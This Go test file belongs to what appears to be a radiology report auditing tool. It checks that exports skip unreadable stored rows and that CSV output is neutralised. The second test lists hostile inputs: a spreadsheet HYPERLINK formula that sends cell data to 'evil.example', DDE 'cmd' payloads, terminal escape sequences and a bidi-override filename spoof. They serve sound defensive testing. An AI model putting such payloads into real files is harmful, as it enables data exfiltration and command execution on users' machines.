package store_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cxr-auditor/cxr-auditor/audit"
	"github.com/cxr-auditor/cxr-auditor/store"
)

// TestExportSkipsBadRows: a stored row that cannot be read (written by a
// faulty tool, say) is reported and skipped; every other item, verdict and
// note still exports. Before, the first one aborted the whole export.
func TestExportSkipsBadRows(t *testing.T) {
	forEachBackend(t, func(t *testing.T, be backend) {
		ctx := context.Background()
		s := exportFixture(t, be)
		db := be.raw(t, s.Path())
		for _, q := range []string{
			`UPDATE results SET report = '{"urgent": tru' WHERE item_id = 'a4'`,
			`UPDATE stage_records SET findings = '[{' WHERE key = 'g1'`,
			`INSERT INTO verdicts (item_id, disagreement_key, decision, annotator, at) VALUES ('a1', 'effusion/missed_in_draft', 'unsure', 'rad9', 'yesterday')`,
			`INSERT INTO notes (item_id, annotator, text, at) VALUES ('a2', 'rad9', 'hello', 'not a time')`,
		} {
			_, err := db.Exec(q)
			require.NoError(t, err, q)
		}

		for _, format := range store.ExportFormats() {
			t.Run(format, func(t *testing.T) {
				var skipped []store.SkippedRow
				var buf bytes.Buffer
				require.NoError(t, s.Export(ctx, &buf, format, store.OnSkipped(func(r store.SkippedRow) { skipped = append(skipped, r) })))
				got := map[string]string{}
				for _, r := range skipped {
					got[r.Table+" "+r.ItemID+" "+r.Field] = r.Error()
				}
				want := []string{"results a4 report", "verdicts a1 at", "notes a2 at"}
				if format == "jsonl" {
					want = append(want, "stage_records a1 findings") // CSV has no findings column
				}
				require.Len(t, got, len(want), "%v", got)
				for _, w := range want {
					assert.Contains(t, got, w)
				}
				assert.Contains(t, got["verdicts a1 at"], `stored time "yesterday"`)

				out := buf.String()
				for _, id := range []string{"a1", "a2", "a3", "a4"} {
					assert.Contains(t, out, id, "every item is still exported")
				}
				assert.Contains(t, out, "stored result unreadable", "the item with the bad result says so")
				assert.Contains(t, out, "apex, see lateral", "good notes are kept")
				assert.Contains(t, out, "image_right", "good verdicts are kept")
				assert.NotContains(t, out, "rad9", "bad rows are left out")
			})
		}

		// Without OnSkipped, Export writes everything and then says what it
		// skipped.
		var buf bytes.Buffer
		err := s.Export(ctx, &buf, "csv")
		require.ErrorIs(t, err, store.ErrSkippedRows)
		assert.Contains(t, err.Error(), `results row of item "a4": field report`)
		assert.Contains(t, buf.String(), "a3,img/a3.png,pending")
	})
}

// TestExportCSVIsInert: outside text (ids, image paths, annotators, notes,
// errors, draft spans) can neither run as a spreadsheet formula nor send
// escape sequences to a terminal that prints the CSV.
func TestExportCSVIsInert(t *testing.T) {
	forEachBackend(t, func(t *testing.T, be backend) {
		ctx := context.Background()
		s := be.open(t)
		hostile := []string{
			`=HYPERLINK("http://evil.example/?d="&A1,"x")`,
			`+cmd|' /C calc'!A0`,
			`-2+3+cmd|' /C calc'!A0`,
			`@SUM(1+1)*cmd|' /C calc'!A0`,
			"\t=1+1",
			"\r=1+1",
			"\x1b[2J\x1b]0;pwned\x07=2+2",
			"\x1b]52;c;ZWNobyBoaQ==\x07",
			"ok\u202etxt.exe",
		}
		var items []audit.ItemRecord
		for i, h := range hostile {
			id := "i" + string(rune('a'+i)) + h
			items = append(items, audit.ItemRecord{ID: id, Image: h, Seq: i})
			require.NoError(t, s.PutResult(ctx, audit.ResultRecord{ItemID: id, Error: h}))
			_, err := s.SaveNote(ctx, audit.Note{ItemID: id, Annotator: h, Text: h + "\nsecond line"})
			require.NoError(t, err)
		}
		items = append(items, audit.ItemRecord{ID: "-12", Image: "=cmd", Seq: len(hostile)})
		require.NoError(t, s.PutResult(ctx, audit.ResultRecord{ItemID: "-12", Report: &audit.Report{Disagreements: []audit.Disagreement{
			{Label: "pneumothorax", Kind: audit.MissedInDraft, DraftSpans: []string{"=1+1"}},
		}}}))
		require.NoError(t, s.PutItems(ctx, items))

		var buf bytes.Buffer
		require.NoError(t, s.Export(ctx, &buf, "csv"))
		out := buf.String()
		for _, b := range []byte{0x1b, 0x07} {
			assert.NotContains(t, out, string(b), "no raw control byte %#x", b)
		}
		assert.NotContains(t, out, "\u202e", "no bidi override")
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		require.NoError(t, err)
		require.Len(t, recs, len(hostile)+2)
		for i, rec := range recs[1:] {
			for j, cell := range rec {
				if cell == "" || cell == "-12" {
					continue
				}
				assert.NotContains(t, "=+-@\t\r", cell[:1], "row %d column %s: %q", i+1, recs[0][j], cell)
			}
		}
		last := recs[len(recs)-1]
		assert.Equal(t, "-12", last[0], "a plain negative number stays a number")
		assert.Equal(t, "'=cmd", last[1])
		assert.Equal(t, "'=1+1", last[7], "draft spans too")
		assert.Contains(t, out, "'=HYPERLINK(")
		assert.Contains(t, out, "second line", "a note keeps its lines")
	})
}
